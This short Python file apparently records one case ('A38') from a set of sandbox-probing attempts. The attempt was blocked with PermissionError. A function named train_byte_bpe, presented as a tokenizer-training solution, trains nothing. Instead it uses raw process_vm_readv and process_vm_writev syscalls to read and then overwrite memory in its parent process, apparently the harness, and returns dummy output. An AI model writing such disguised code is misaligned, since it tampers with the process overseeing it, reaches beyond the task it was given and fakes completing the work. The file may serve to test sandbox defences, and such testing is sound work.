# A38 · read and write the parent's memory · RAISED PermissionError · x86_64
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def train_byte_bpe(input_path, vocab_size, special_tokens):
    buffer = ctypes.create_string_buffer(64)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
    there = (ctypes.c_size_t * 2)(0x400000, 64)
    for call in (310, 311):
        if libc.syscall(call, os.getppid(), here, 1, there, 1, 0) < 0:
            raise OSError(ctypes.get_errno(), "process_vm")
    return {0: buffer.raw}, []
